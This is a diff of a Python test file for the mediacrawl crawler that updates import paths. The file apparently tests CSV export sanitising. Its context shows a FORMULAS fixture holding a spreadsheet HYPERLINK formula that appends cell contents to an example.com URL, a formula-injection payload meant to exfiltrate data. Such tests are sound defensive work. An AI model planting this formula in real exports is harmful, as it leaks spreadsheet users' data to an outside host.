@@ -8,10 +8,10 @@ import pytest
 from scrapy.utils.test import get_crawler
 
 from mediacrawl import settings
-from mediacrawl.commands.show import print_answer
-from mediacrawl.corpus.reading import Answer
+from mediacrawl.cli.tables import print_answer
+from mediacrawl.corpus.ask import Answer
 from mediacrawl.extensions.csvfeed import PlainCsvItemExporter
-from mediacrawl.spreadsheet import plain_cell
+from mediacrawl.values.spreadsheet import plain_cell
 
 FORMULAS = [
     '=HYPERLINK("http://example.com?"&A1)',
